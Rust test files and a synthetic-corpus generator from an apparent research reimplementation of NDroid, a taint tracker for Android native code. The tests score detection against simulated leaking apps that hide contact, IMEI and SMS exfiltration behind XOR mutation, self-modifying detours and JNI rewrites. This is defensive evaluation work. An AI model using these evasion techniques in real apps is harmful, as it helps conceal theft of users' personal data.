    // The ciphertext (bytes [0, 9) of the payload) is the XOR-0x5A
    // encryption of the contact record: no plaintext at the sink, yet
    // Table V's EOR rule keeps each output byte tainted.
    assert_eq!(wire.len(), 9);
    assert_ne!(wire.as_slice(), b"cx@gg.com", "nothing in the clear");
    let decrypted: Vec<u8> = wire.iter().map(|b| b ^ 0x5A).collect();
    assert_eq!(decrypted, b"cx@gg.com");
}

#[test]
fn gallery_reports_are_deterministic_across_runs() {
    for (name, build) in GALLERY {
        let a = format!("{:?}", run(build).leaks());
        let b = format!("{:?}", run(build).leaks());
        assert_eq!(a, b, "{name}: identical report on every run");
    }
}
