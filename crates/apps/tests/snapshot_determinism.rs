//! The snapshot fan-out determinism gate: a system forked from a
//! copy-on-write [`ndroid_core::Snapshot`] and driven some way must
//! produce a [`ndroid_core::RunReport`] **equal** to a freshly booted
//! system driven the same way — including the provenance flow-graph
//! fingerprint at [`ProvenanceLevel::Full`] and every cache counter —
//! across all three tracer engines (optimized, blocks-off, reference).
//!
//! Also pins the nastiest coherency case: the detour app overwrites
//! its own prologue *at runtime* (self-modifying code) after a fork
//! whose decode/superblock caches were carried warm from the parent.

use ndroid_apps::adversarial;
use ndroid_apps::driver::{drive, gated_leak_app, GATED_ENTRIES};
use ndroid_core::{NDroidSystem, ProvenanceLevel, RunReport, SystemConfig};

/// The three engine configurations the gate must hold for, all with
/// full provenance so the report carries event fingerprints.
fn engine_configs() -> Vec<(&'static str, SystemConfig)> {
    let base = SystemConfig::ndroid()
        .quiet(true)
        .provenance(ProvenanceLevel::Full);
    vec![
        ("optimized", base.clone()),
        ("no-blocks", base.clone().blocks(false)),
        ("reference", base.reference()),
    ]
}

/// Drives `steps` monkey events from `seed` and reports.
fn monkey_run(sys: &mut NDroidSystem, steps: usize, seed: u64) -> RunReport {
    let d = drive(sys, "Lapp/Sync;", &GATED_ENTRIES, steps, seed);
    assert_eq!(d.errors, 0, "driver invocations must not fail");
    d.report
}

#[test]
fn forked_run_equals_fresh_run_across_engines() {
    for (name, cfg) in engine_configs() {
        let mut fresh = gated_leak_app().launch_with(cfg.clone());
        let want = monkey_run(&mut fresh, 40, 3);

        let snap = gated_leak_app().launch_with(cfg).snapshot();
        let mut forked = snap.fork();
        let got = monkey_run(&mut forked, 40, 3);
        assert_eq!(got, want, "{name}: forked run diverged from fresh run");

        // The image is reusable: a second fork replays identically.
        let mut again = snap.fork();
        assert_eq!(monkey_run(&mut again, 40, 3), want, "{name}: second fork");
    }
}

#[test]
fn parent_divergence_never_bleeds_into_forks() {
    for (name, cfg) in engine_configs() {
        let mut fresh = gated_leak_app().launch_with(cfg.clone());
        let want = monkey_run(&mut fresh, 25, 9);

        let mut parent = gated_leak_app().launch_with(cfg);
        let snap = parent.snapshot();
        // Heavy divergent activity on the parent *after* the capture:
        // a different schedule, plus a moving GC compaction.
        monkey_run(&mut parent, 60, 0xDEAD);
        parent.force_gc();

        let mut forked = snap.fork();
        assert_eq!(
            monkey_run(&mut forked, 25, 9),
            want,
            "{name}: parent mutations bled into the fork"
        );
    }
}

/// Self-modifying code after a fork: the detour app installs an
/// inline `B target` over its own prologue from in-guest stores. The
/// fork's decode and superblock caches were carried warm from the
/// parent's image, so a stale cache would run the *unpatched* decoy
/// and miss the leak. Regression for the epoch/rebind protocol.
#[test]
fn smc_after_fork_detour_regression() {
    for (name, cfg) in engine_configs() {
        // Fresh baseline.
        let fresh = adversarial::detour_leak()
            .run_with(cfg.clone())
            .expect("fresh detour run");
        let want = fresh.report();
        assert_eq!(fresh.leaks().len(), 1, "{name}: detour baseline leaks");

        // Fork from a launched-but-not-run image; the patch happens
        // inside the forked run, over Rc-shared code pages.
        let app = adversarial::detour_leak();
        let entry = app.entry.clone();
        let snap = app.launch_with(cfg).snapshot();
        let mut forked = snap.fork();
        forked.run_java(&entry.0, &entry.1, &[]).expect("forked detour run");
        assert_eq!(forked.leaks().len(), 1, "{name}: SMC leak missed after fork");
        assert_eq!(forked.report(), want, "{name}: forked detour run diverged");

        // A sibling fork sees unpatched code again and replays the
        // whole install-and-leak sequence identically.
        let mut sibling = snap.fork();
        sibling.run_java(&entry.0, &entry.1, &[]).expect("sibling detour run");
        assert_eq!(sibling.report(), want, "{name}: sibling fork diverged");
    }
}

/// Forking a *finished* system carries its warm caches; re-running the
/// entry re-installs the detour over already-patched pages (another
/// round of in-guest stores against carried cache state) and must
/// still detect the leak exactly like a fresh double run.
#[test]
fn refork_of_finished_run_stays_coherent() {
    let cfg = SystemConfig::ndroid().quiet(true);

    let app = adversarial::detour_leak();
    let entry = app.entry.clone();
    let mut fresh = app.launch_with(cfg.clone());
    fresh.run_java(&entry.0, &entry.1, &[]).expect("first run");
    fresh.run_java(&entry.0, &entry.1, &[]).expect("second run");
    let want = fresh.report();

    let app = adversarial::detour_leak();
    let entry = app.entry.clone();
    let mut parent = app.launch_with(cfg);
    parent.run_java(&entry.0, &entry.1, &[]).expect("parent run");
    let mut forked = parent.snapshot().fork();
    forked.run_java(&entry.0, &entry.1, &[]).expect("forked rerun");
    assert_eq!(forked.report(), want, "re-fork of a finished run diverged");
}
