//! Regression wall for the adversarial corpus: a pinned detection
//! matrix (every family × {TaintDroid, NDroid}), engine bit-identity
//! over every case, provenance leak-path coverage at `Level::Full` for
//! every leaking case, and a `TESTKIT_CASES`-scaled property run over
//! randomly mutated [`FlowSpec`]s asserting the analysis verdict
//! always equals the spec's ground truth.

use ndroid_apps::adversarial::{self, corpus};
use ndroid_apps::synth::{self, FlowSpec, Hop, Mutation, Sink, Source};
use ndroid_apps::testutil::{assert_paths_cover_pinned_leaks, assert_reports_match, run_prov};
use ndroid_apps::App;
use ndroid_core::report::collect_outcome;
use ndroid_core::{DetectionReport, EngineKind, Mode, ProvenanceLevel, SystemConfig};
use ndroid_testkit::prelude::*;

/// The sensitive value each leaking case actually exfiltrates — as it
/// appears *on the wire* (mutations transform the bytes). Used as the
/// ground-truth marker for "MISSED" classification under TaintDroid.
fn wire_marker(label: &str) -> Option<String> {
    let xor29 = |s: &str| -> String {
        s.bytes().map(|b| (b ^ 0x29) as char).collect()
    };
    match label {
        "detour/leak" => Some("000000000000000".to_string()), // IMEI
        "interwork/leak" => Some("Vincent".to_string()),      // contact
        "rewrite/leak" => Some("secret meeting at 5pm".to_string()), // SMS
        "mutation/xor29" => Some(xor29("Vincent")),
        "mutation/reverse" => Some("tnecniV".to_string()),
        "mutation/xor29-reverse" => Some(xor29("Vincent").chars().rev().collect()),
        _ => None,
    }
}

fn run_mode(case: &ndroid_apps::adversarial::AdversarialCase, mode: Mode) -> ndroid_core::RunReport {
    case.build()
        .run_with(SystemConfig::new(mode).quiet(true))
        .expect("case runs")
        .report()
}

/// The pinned detection matrix: every family behaves exactly as the
/// paper's §V threat narrative predicts. NDroid detects every
/// taint-preserving adversarial flow; TaintDroid (no native tracking)
/// sees the same exfiltrations happen but misses every one that
/// crosses JNI; neither flags a taint-killing or benign case.
#[test]
fn detection_matrix_rows_are_pinned() {
    let mut report = DetectionReport::new();
    for case in corpus() {
        for mode in [Mode::TaintDroid, Mode::NDroid] {
            let run = run_mode(&case, mode);
            let markers: Vec<String> = wire_marker(case.label).into_iter().collect();
            let marker_refs: Vec<&str> = markers.iter().map(String::as_str).collect();
            report.push(collect_outcome(case.label, &run, &marker_refs));
        }
    }
    for case in corpus() {
        let nd = report
            .outcome(case.label, Mode::NDroid, EngineKind::Optimized)
            .unwrap();
        let td = report
            .outcome(case.label, Mode::TaintDroid, EngineKind::Optimized)
            .unwrap();
        if case.expected_leak {
            assert_eq!(nd.cell(), "detected", "{}: NDroid must catch it", case.label);
            assert_eq!(
                td.cell(),
                "MISSED",
                "{}: the flow crosses JNI, so TaintDroid exfiltrates it unseen",
                case.label
            );
        } else {
            assert_eq!(nd.cell(), "-", "{}: nothing to detect", case.label);
            assert_eq!(td.cell(), "-", "{}: nothing to miss either", case.label);
        }
    }
    // The rendered matrix carries one row per corpus case.
    let rendered = report.render(&[Mode::TaintDroid, Mode::NDroid]);
    assert_eq!(
        rendered.lines().count(),
        1 + corpus().len(),
        "header plus one row per case:\n{rendered}"
    );
}

/// Bit-identical results under `EngineKind::Reference` vs `Optimized`
/// for every adversarial case — the differential-oracle guarantee
/// extends to self-patching code, interworking trampolines, and
/// rewritten JNI bodies.
#[test]
fn every_case_is_engine_bit_identical() {
    for case in corpus() {
        let report = assert_reports_match(|| case.build(), case.label);
        assert_eq!(
            report.leaked(),
            case.expected_leak,
            "{}: reference-engine verdict disagrees with ground truth",
            case.label
        );
    }
}

/// Every leaking case reconstructs a full source→sink provenance path
/// at `Level::Full`; every clean case reconstructs none.
#[test]
fn leak_paths_reconstruct_at_full_for_every_family() {
    for case in corpus() {
        let sys = run_prov(|| case.build(), EngineKind::Optimized, ProvenanceLevel::Full);
        let graph = sys.flow_graph();
        if case.expected_leak {
            assert_paths_cover_pinned_leaks(case.label, &sys, &graph);
        } else {
            assert_eq!(
                graph.total_leak_paths(),
                0,
                "{}: clean case must yield no leak path",
                case.label
            );
        }
    }
}

/// The SMC families force real invalidations in whichever code cache
/// fronts the interpreter: with superblock dispatch (the default)
/// their code-page stores must invalidate compiled blocks, and with
/// blocks off the same stores must invalidate cached decodes (this is
/// what distinguishes them from the cooperative gallery).
#[test]
fn smc_families_invalidate_the_decode_cache() {
    for build in [
        adversarial::detour_leak as fn() -> App,
        adversarial::detour_benign,
        adversarial::rewrite_leak,
        adversarial::rewrite_benign,
    ] {
        let sys = build().run(Mode::NDroid).expect("app runs");
        assert!(
            sys.blocks.invalidations > 0,
            "self-patching must invalidate compiled blocks"
        );
        let sys = build()
            .run_with(SystemConfig::ndroid().blocks(false))
            .expect("app runs");
        assert!(
            sys.icache.invalidations > 0,
            "self-patching must invalidate cached decodes"
        );
    }
}

/// The block-cache counters ride along in [`RunReport::stats`]: for
/// the detour family the default run compiles and re-dispatches
/// blocks (and invalidates them when the detour patches itself),
/// while a blocks-off run surfaces all-zero counters.
#[test]
fn detour_family_surfaces_block_cache_counters() {
    let sys = adversarial::detour_leak().run(Mode::NDroid).expect("app runs");
    let stats = sys.report().stats.expect("ndroid stats");
    assert_eq!(stats.blocks_built, sys.blocks.built);
    assert_eq!(stats.block_hits, sys.blocks.hits);
    assert_eq!(stats.block_misses, sys.blocks.misses);
    assert_eq!(stats.block_invalidations, sys.blocks.invalidations);
    assert!(stats.blocks_built > 0, "the detour body was compiled");
    assert!(stats.block_misses > 0, "cold lookups preceded compilation");
    assert!(stats.block_invalidations > 0, "the self-patch dropped stale blocks");

    let off = adversarial::detour_leak()
        .run_with(SystemConfig::ndroid().blocks(false))
        .expect("app runs");
    let stats = off.report().stats.expect("ndroid stats");
    assert_eq!(
        (stats.blocks_built, stats.block_hits, stats.block_misses, stats.block_invalidations),
        (0, 0, 0, 0),
        "blocks off: the cache is never consulted"
    );
}

const SOURCES: [Source; 4] = [Source::Imei, Source::Contact, Source::Sms, Source::Location];
const HOPS: [Hop; 5] = [Hop::Strcpy, Hop::Memcpy, Hop::XorLoop, Hop::Sprintf, Hop::Strdup];
const SINKS: [Sink; 3] = [Sink::NativeSend, Sink::NativeFile, Sink::JavaSend];
const MUTATIONS: [Mutation; 4] = [
    Mutation::Xor29,
    Mutation::Reverse,
    Mutation::ConstStamp,
    Mutation::ImplicitOnly,
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(12))]

    /// For any randomly mutated spec, the NDroid verdict equals the
    /// spec's computed ground truth: preserving mutations never lose
    /// the taint, killing mutations never leave a false positive. The
    /// one designed-in over-approximation is TaintDroid's conservative
    /// JNI return policy (§II-B: a tainted parameter taints the
    /// return), which NDroid inherits — a `JavaSend` sink therefore
    /// flags whenever the source value was passed in at all.
    /// Scale with `TESTKIT_CASES`; replay a failure with `TESTKIT_SEED`.
    #[test]
    fn mutated_specs_always_match_ground_truth(
        source_i in 0usize..4,
        hop_is in collection::vec(0usize..5, 0..3),
        sink_i in 0usize..3,
        leak_i in 0u32..2,
        mut_is in collection::vec(0usize..4, 0..3),
    ) {
        let spec = FlowSpec {
            source: SOURCES[source_i],
            hops: hop_is.iter().map(|&i| HOPS[i]).collect(),
            sink: SINKS[sink_i],
            leak: leak_i == 1,
            mutations: mut_is.iter().map(|&i| MUTATIONS[i]).collect(),
        };
        let expected = spec.expected_leak() || spec.sink == Sink::JavaSend;
        let sys = synth::build(&spec)
            .run_with(SystemConfig::ndroid().quiet(true))
            .expect("synth app runs");
        prop_assert_eq!(
            sys.report().leaked(),
            expected,
            "spec {:?}", spec
        );
    }
}
