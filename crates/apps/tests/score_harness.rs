//! False-positive control through the scoring harness: the benign apps
//! and every taint-killing mutation variant run through the farm and
//! the scorer, and precision must be exactly 1.0 — zero flagged leaks
//! anywhere in the negative corpus. The complementary check runs the
//! full adversarial corpus and pins aggregate recall = 1.0 on the
//! taint-preserving cases alongside precision = 1.0.

use ndroid_apps::adversarial::{corpus, expected_leak, CaseApp};
use ndroid_apps::farm::Adversarial;
use ndroid_core::batch::{run_batch, BatchConfig, JobSource};
use ndroid_core::score::score_batch;
use ndroid_core::{AnalysisJob, SystemConfig};

/// Runs only the corpus' negative cases (benign apps + taint-killing
/// mutation variants) and asserts nothing is flagged.
#[test]
fn negative_corpus_scores_precision_one() {
    let config = SystemConfig::ndroid().quiet(true);
    let jobs: Vec<AnalysisJob> = corpus()
        .into_iter()
        .filter(|case| !case.expected_leak)
        .map(|case| {
            let config = config.clone();
            AnalysisJob::new(case.label, move || {
                case.build()
                    .run_with(config)
                    .map(|sys| sys.report())
                    .map_err(|e| e.to_string())
            })
        })
        .collect();
    assert!(jobs.len() >= 8, "benign + killing variants populate the negative corpus");

    let batch = run_batch(jobs, BatchConfig::new(4));
    let score = score_batch(&batch, expected_leak);
    assert!(score.unscored.is_empty(), "{}", score.render());
    assert_eq!(
        score.aggregate.false_positives, 0,
        "zero flagged leaks:\n{}",
        score.render()
    );
    assert_eq!(score.aggregate.precision(), 1.0);
    assert_eq!(
        score.aggregate.true_negatives,
        score.aggregate.total(),
        "every negative case stays clean"
    );
    // Per-family precision too: benign apps and killing mutations each
    // hold on their own.
    for family in ["benign", "mutation", "detour", "interwork", "rewrite"] {
        if let Some(card) = score.family(family) {
            assert_eq!(card.precision(), 1.0, "{family}: {}", score.render());
        }
    }
}

/// The whole corpus through the farm: recall 1.0 on the preserving
/// cases AND precision 1.0 on the killing/benign cases, per family and
/// in aggregate — the CI acceptance bar.
#[test]
fn full_corpus_scores_perfectly() {
    let batch = run_batch(
        Adversarial.jobs(&SystemConfig::ndroid().quiet(true)),
        BatchConfig::new(4),
    );
    let score = score_batch(&batch, expected_leak);
    assert!(score.perfect(), "{}", score.render());
    assert_eq!(score.aggregate.recall(), 1.0, "{}", score.render());
    assert_eq!(score.aggregate.precision(), 1.0, "{}", score.render());
    assert_eq!(score.aggregate.f1(), 1.0);
    for f in &score.families {
        assert!(f.card.perfect(), "{}: {}", f.family, score.render());
    }
    // The corpus genuinely exercises both error directions: positives
    // exist (so recall is meaningful) and negatives exist (precision).
    assert!(score.aggregate.true_positives >= 6);
    assert!(score.aggregate.true_negatives >= 8);
}

/// Mutation variants are the μDep instrument: spec-derived ground
/// truth stays in lockstep with the corpus-level labels.
#[test]
fn mutation_truth_comes_from_the_spec() {
    for case in corpus() {
        if let CaseApp::Spec(spec) = &case.app {
            assert_eq!(case.expected_leak, spec.expected_leak(), "{}", case.label);
        }
    }
}
