//! Gallery-level differential oracle: each gallery app runs twice —
//! once under the optimized NDroid engine (handler cache + decoded-
//! instruction cache) and once with the reference engine substituted
//! (`SystemConfig::reference()`: straight-line `ref_propagate`, no
//! caches) — and the externally observable [`RunReport`]s must match:
//! leak events (sink, destination, payload, taint label, context), the
//! kernel's network log, protection violations, and work counters.
//!
//! This closes the gap the pure-native property suite cannot cover:
//! JNI marshalling, source policies, host-modeled libc functions and
//! sinks all read the *shared* shadow state, so an optimized-tracer
//! bug anywhere on those paths shows up as a report diff here.

use ndroid_apps::{crypto_hider, qq_phonebook, thumb_spy, App};
use ndroid_core::{EngineKind, RunReport, SystemConfig};
use ndroid_dvm::Taint;

fn run_engine(build: fn() -> App, engine: EngineKind) -> RunReport {
    build()
        .run_with(SystemConfig::ndroid().engine(engine))
        .expect("engine run")
        .report()
}

/// Runs both engines, asserts their reports agree on everything
/// externally observable, and returns the reference-engine report for
/// pinned-leak checks.
fn assert_reports_match(build: fn() -> App, name: &str) -> RunReport {
    let opt = run_engine(build, EngineKind::Optimized);
    let reference = run_engine(build, EngineKind::Reference);
    assert_eq!(opt.engine, EngineKind::Optimized);
    assert_eq!(
        reference.engine,
        EngineKind::Reference,
        "{name}: reference engine must actually be installed"
    );

    assert_eq!(
        opt.sink_events, reference.sink_events,
        "{name}: sink-event reports diverge between engines"
    );
    assert_eq!(
        opt.network_log, reference.network_log,
        "{name}: network logs diverge between engines"
    );
    assert_eq!(
        opt.violations, reference.violations,
        "{name}: protection violations diverge between engines"
    );
    assert_eq!(
        (opt.native_insns, opt.bytecodes),
        (reference.native_insns, reference.bytecodes),
        "{name}: engines executed different instruction counts"
    );
    reference
}

#[test]
fn qq_phonebook_reports_match_reference() {
    // And the pinned leak survives under the reference engine too.
    let report = assert_reports_match(qq_phonebook::qq_phonebook, "qq_phonebook");
    let leaks = report.leaks();
    assert_eq!(leaks.len(), 1);
    assert_eq!(leaks[0].sink, "HttpClient.post");
    assert_eq!(leaks[0].dest, "sync.3g.qq.com");
    assert_eq!(leaks[0].taint, Taint::CONTACTS | Taint::SMS);
}

#[test]
fn thumb_spy_reports_match_reference() {
    let report = assert_reports_match(thumb_spy::thumb_spy, "thumb_spy");
    let leaks = report.leaks();
    assert_eq!(leaks.len(), 1);
    assert_eq!(leaks[0].data, "Vincent");
    assert_eq!(leaks[0].taint, Taint::CONTACTS);
}

#[test]
fn crypto_hider_reports_match_reference() {
    let report = assert_reports_match(crypto_hider::crypto_hider, "crypto_hider");
    let leaks = report.leaks();
    assert_eq!(leaks.len(), 1);
    assert_eq!(leaks[0].taint, Taint::CONTACTS);
}
