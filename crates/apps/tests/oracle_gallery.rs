//! Gallery-level differential oracle: each gallery app runs twice —
//! once under the optimized NDroid analysis (handler cache + decoded-
//! instruction cache) and once with the reference engine substituted
//! ([`NDroidSystem::use_reference_engine`]: straight-line `ref_propagate`,
//! no caches) — and the externally observable reports must match
//! exactly: leak events (sink, destination, payload, taint label,
//! context), the kernel's network log, and protection violations.
//!
//! This closes the gap the pure-native property suite cannot cover:
//! JNI marshalling, source policies, host-modeled libc functions and
//! sinks all read the *shared* shadow state, so an optimized-tracer
//! bug anywhere on those paths shows up as a report diff here.

use ndroid_apps::{crypto_hider, qq_phonebook, thumb_spy, App};
use ndroid_core::{Mode, NDroidSystem};
use ndroid_dvm::{LeakEvent, Taint};

fn run_optimized(build: fn() -> App) -> NDroidSystem {
    build().run(Mode::NDroid).expect("optimized run")
}

fn run_reference(build: fn() -> App) -> NDroidSystem {
    build()
        .run_configured(Mode::NDroid, NDroidSystem::use_reference_engine)
        .expect("reference run")
}

fn assert_reports_match(build: fn() -> App, name: &str) {
    let mut opt = run_optimized(build);
    let reference = run_reference(build);
    assert!(
        reference.reference_analysis().is_some(),
        "{name}: reference engine must actually be installed"
    );

    let opt_events: Vec<LeakEvent> = opt.all_sink_events().into_iter().cloned().collect();
    let ref_events: Vec<LeakEvent> = reference.all_sink_events().into_iter().cloned().collect();
    assert_eq!(
        opt_events, ref_events,
        "{name}: sink-event reports diverge between engines"
    );

    assert_eq!(
        opt.kernel.network_log, reference.kernel.network_log,
        "{name}: network logs diverge between engines"
    );

    let opt_violations = opt
        .ndroid_analysis_mut()
        .map(|a| a.violations.clone())
        .unwrap_or_default();
    let ref_violations = reference
        .reference_analysis()
        .map(|a| a.violations().to_vec())
        .unwrap_or_default();
    assert_eq!(
        opt_violations, ref_violations,
        "{name}: protection violations diverge between engines"
    );
}

#[test]
fn qq_phonebook_reports_match_reference() {
    assert_reports_match(qq_phonebook::qq_phonebook, "qq_phonebook");
    // And the pinned leak survives under the reference engine too.
    let sys = run_reference(qq_phonebook::qq_phonebook);
    let leaks = sys.leaks();
    assert_eq!(leaks.len(), 1);
    assert_eq!(leaks[0].sink, "HttpClient.post");
    assert_eq!(leaks[0].dest, "sync.3g.qq.com");
    assert_eq!(leaks[0].taint, Taint::CONTACTS | Taint::SMS);
}

#[test]
fn thumb_spy_reports_match_reference() {
    assert_reports_match(thumb_spy::thumb_spy, "thumb_spy");
    let sys = run_reference(thumb_spy::thumb_spy);
    let leaks = sys.leaks();
    assert_eq!(leaks.len(), 1);
    assert_eq!(leaks[0].data, "Vincent");
    assert_eq!(leaks[0].taint, Taint::CONTACTS);
}

#[test]
fn crypto_hider_reports_match_reference() {
    assert_reports_match(crypto_hider::crypto_hider, "crypto_hider");
    let sys = run_reference(crypto_hider::crypto_hider);
    let leaks = sys.leaks();
    assert_eq!(leaks.len(), 1);
    assert_eq!(leaks[0].taint, Taint::CONTACTS);
}
