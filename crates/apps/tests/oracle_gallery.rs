//! Gallery-level differential oracle: each gallery app runs twice —
//! once under the optimized NDroid engine (handler cache + decoded-
//! instruction cache) and once with the reference engine substituted
//! (`SystemConfig::reference()`: straight-line `ref_propagate`, no
//! caches) — and the externally observable [`RunReport`]s must match:
//! leak events (sink, destination, payload, taint label, context), the
//! kernel's network log, protection violations, and work counters.
//!
//! This closes the gap the pure-native property suite cannot cover:
//! JNI marshalling, source policies, host-modeled libc functions and
//! sinks all read the *shared* shadow state, so an optimized-tracer
//! bug anywhere on those paths shows up as a report diff here.

use ndroid_apps::testutil::assert_reports_match;
use ndroid_apps::{crypto_hider, qq_phonebook, thumb_spy};
use ndroid_dvm::Taint;

#[test]
fn qq_phonebook_reports_match_reference() {
    // And the pinned leak survives under the reference engine too.
    let report = assert_reports_match(qq_phonebook::qq_phonebook, "qq_phonebook");
    let leaks = report.leaks();
    assert_eq!(leaks.len(), 1);
    assert_eq!(leaks[0].sink, "HttpClient.post");
    assert_eq!(leaks[0].dest, "sync.3g.qq.com");
    assert_eq!(leaks[0].taint, Taint::CONTACTS | Taint::SMS);
}

#[test]
fn thumb_spy_reports_match_reference() {
    let report = assert_reports_match(thumb_spy::thumb_spy, "thumb_spy");
    let leaks = report.leaks();
    assert_eq!(leaks.len(), 1);
    assert_eq!(leaks[0].data, "Vincent");
    assert_eq!(leaks[0].taint, Taint::CONTACTS);
}

#[test]
fn crypto_hider_reports_match_reference() {
    let report = assert_reports_match(crypto_hider::crypto_hider, "crypto_hider");
    let leaks = report.leaks();
    assert_eq!(leaks.len(), 1);
    assert_eq!(leaks[0].taint, Taint::CONTACTS);
}
