#![warn(missing_docs)]

//! # ndroid-corpus
//!
//! The large-scale app-market study of §III: classification of
//! 227,911 apps into the three JNI-usage types, the Type-I category
//! distribution (Fig. 2), and the native-library statistics.
//!
//! **Substitution note** (see DESIGN.md): the original corpus was
//! crawled from the Google Play market over Jun. 2012 – Jun. 2013 and
//! is proprietary. What *is* reproducible is the analysis pipeline —
//! so [`generator`] synthesizes a corpus of raw [`AppRecord`]s whose
//! marginals are calibrated to the paper's published aggregates, and
//! [`classifier`] re-derives every §III number from the raw records
//! exactly as the original tooling did from APKs.

pub mod classifier;
pub mod generator;
pub mod record;

pub use classifier::{classify, Section3Stats};
pub use generator::{generate, CorpusConfig};
pub use record::{AppRecord, Category, JniType};
