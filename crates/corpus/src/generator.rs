//! Synthetic corpus generator, calibrated to §III's published
//! aggregates (see the substitution note in the crate docs).

use crate::record::{AppRecord, Category};
use ndroid_testkit::Pcg32;

/// Generation parameters; defaults match the paper exactly.
#[derive(Debug, Clone)]
pub struct CorpusConfig {
    /// Total apps crawled (227,911 in the paper).
    pub total: u32,
    /// Type-I apps (37,506).
    pub type1: u32,
    /// Type-II apps (1,738).
    pub type2: u32,
    /// Type-II apps carrying a loader dex (394).
    pub type2_loadable: u32,
    /// Type-III apps (16, of which 11 games and 5 entertainment).
    pub type3: u32,
    /// Type-I apps shipping no native library (4,034).
    pub type1_without_libs: u32,
    /// Fraction of lib-less Type-I apps using the AdMob plugin classes
    /// (48.1%).
    pub admob_fraction: f64,
    /// RNG seed.
    pub seed: u64,
}

impl Default for CorpusConfig {
    fn default() -> CorpusConfig {
        CorpusConfig {
            total: 227_911,
            type1: 37_506,
            type2: 1_738,
            type2_loadable: 394,
            type3: 16,
            type1_without_libs: 4_034,
            admob_fraction: 0.481,
            seed: 0xD514, // DSN'14
        }
    }
}

/// Fig. 2's Type-I category proportions.
const TYPE1_CATEGORY_WEIGHTS: [(Category, f64); 20] = [
    (Category::Game, 0.42),
    (Category::Tools, 0.05),
    (Category::Entertainment, 0.05),
    (Category::MusicAndAudio, 0.04),
    (Category::Communication, 0.04),
    (Category::Personalization, 0.04),
    (Category::Casual, 0.03),
    (Category::Puzzle, 0.03),
    (Category::Racing, 0.03),
    (Category::Sports, 0.03),
    (Category::Productivity, 0.03),
    (Category::Photography, 0.03),
    (Category::Lifestyle, 0.03),
    (Category::Arcade, 0.02),
    (Category::TravelAndLocal, 0.02),
    (Category::Social, 0.02),
    (Category::MediaAndVideo, 0.02),
    (Category::NewsAndMagazines, 0.02),
    (Category::Education, 0.02),
    (Category::Other, 0.03),
];

/// The popular native libraries of §III-A, most popular first: game
/// engines dominate, then AV processing, then NDK/system libraries
/// "bundled with the applications for addressing Android's poor
/// compatibility".
pub const POPULAR_LIBS: [&str; 20] = [
    "libunity.so",
    "libgdx.so",
    "libbox2d.so",
    "libcocos2d.so",
    "libmono.so",
    "libffmpeg.so",
    "libstagefright_froyo.so",
    "libmp3lame.so",
    "libvorbis.so",
    "libopenal.so",
    "libstlport_shared.so",
    "libcore.so",
    "libcrypto.so",
    "libcurl.so",
    "libpng.so",
    "libjpeg.so",
    "libsqlite3.so",
    "libprotobuf.so",
    "libluajit.so",
    "libwebp.so",
];

/// The eight AdMob plugin classes of §III-A (used by 48.1% of the
/// lib-less Type-I apps — "repackaged apps with many advertisement
/// components").
pub const ADMOB_CLASSES: [&str; 8] = [
    "Lcom/admob/android/ads/AdView;",
    "Lcom/admob/android/ads/AdManager;",
    "Lcom/admob/android/ads/AdContainer;",
    "Lcom/admob/android/ads/AdRequester;",
    "Lcom/admob/android/ads/InterstitialAd;",
    "Lcom/admob/android/ads/analytics/InstallReceiver;",
    "Lcom/admob/android/ads/view/AdActivity;",
    "Lcom/admob/android/ads/util/AdUtil;",
];

fn exact_counts(total: u32, weights: &[(Category, f64)]) -> Vec<(Category, u32)> {
    // Largest-remainder apportionment so counts sum exactly to total.
    let mut out: Vec<(Category, u32, f64)> = weights
        .iter()
        .map(|(c, w)| {
            let exact = w * total as f64;
            (*c, exact.floor() as u32, exact - exact.floor())
        })
        .collect();
    let assigned: u32 = out.iter().map(|(_, n, _)| *n).sum();
    let mut remainder = total - assigned;
    out.sort_by(|a, b| b.2.partial_cmp(&a.2).unwrap());
    for entry in out.iter_mut() {
        if remainder == 0 {
            break;
        }
        entry.1 += 1;
        remainder -= 1;
    }
    out.into_iter().map(|(c, n, _)| (c, n)).collect()
}

fn sample_libs(rng: &mut Pcg32) -> Vec<&'static str> {
    // Zipf-flavored: library i chosen with probability ∝ 1/(i+1).
    let mut libs = Vec::new();
    let n = rng.gen_range(1..=4usize);
    while libs.len() < n {
        let idx = loop {
            let i = rng.gen_range(0..POPULAR_LIBS.len());
            if rng.gen_f64() < 1.0 / (i as f64 + 1.0) {
                break i;
            }
        };
        if !libs.contains(&POPULAR_LIBS[idx]) {
            libs.push(POPULAR_LIBS[idx]);
        }
    }
    libs
}

/// Generates the corpus.
pub fn generate(config: &CorpusConfig) -> Vec<AppRecord> {
    let mut rng = Pcg32::seed_from_u64(config.seed);
    let mut records = Vec::with_capacity(config.total as usize);

    // Category plan for Type-I apps (Fig. 2 proportions, exact).
    let mut type1_categories: Vec<Category> = Vec::with_capacity(config.type1 as usize);
    for (cat, n) in exact_counts(config.type1, &TYPE1_CATEGORY_WEIGHTS) {
        type1_categories.extend(std::iter::repeat_n(cat, n as usize));
    }
    rng.shuffle(&mut type1_categories);

    let mut id = 0u32;
    // Type I.
    let admob_count =
        (config.type1_without_libs as f64 * config.admob_fraction).round() as u32;
    for i in 0..config.type1 {
        let without_libs = i < config.type1_without_libs;
        let native_libs = if without_libs {
            vec![]
        } else {
            sample_libs(&mut rng)
        };
        let native_decl_classes: Vec<&'static str> = if without_libs && i < admob_count {
            ADMOB_CLASSES.to_vec()
        } else if without_libs {
            vec!["Lcom/vendor/sdk/NativeBridge;"]
        } else {
            vec!["Lcom/app/jni/Native;"]
        };
        records.push(AppRecord {
            id,
            category: type1_categories[i as usize],
            calls_load_library: true,
            native_libs,
            has_loader_dex: false,
            pure_native: false,
            native_decl_classes,
        });
        id += 1;
    }
    // Type II.
    for i in 0..config.type2 {
        records.push(AppRecord {
            id,
            category: Category::ALL[rng.gen_range(0..Category::ALL.len())],
            calls_load_library: false,
            native_libs: sample_libs(&mut rng),
            has_loader_dex: i < config.type2_loadable,
            pure_native: false,
            native_decl_classes: vec![],
        });
        id += 1;
    }
    // Type III: 11 games, 5 entertainment (§III-C).
    for i in 0..config.type3 {
        records.push(AppRecord {
            id,
            category: if i < 11 {
                Category::Game
            } else {
                Category::Entertainment
            },
            calls_load_library: false,
            native_libs: vec!["libmain.so"],
            has_loader_dex: false,
            pure_native: true,
            native_decl_classes: vec![],
        });
        id += 1;
    }
    // The rest: pure-Java apps.
    while id < config.total {
        records.push(AppRecord {
            id,
            category: Category::ALL[rng.gen_range(0..Category::ALL.len())],
            calls_load_library: false,
            native_libs: vec![],
            has_loader_dex: false,
            pure_native: false,
            native_decl_classes: vec![],
        });
        id += 1;
    }
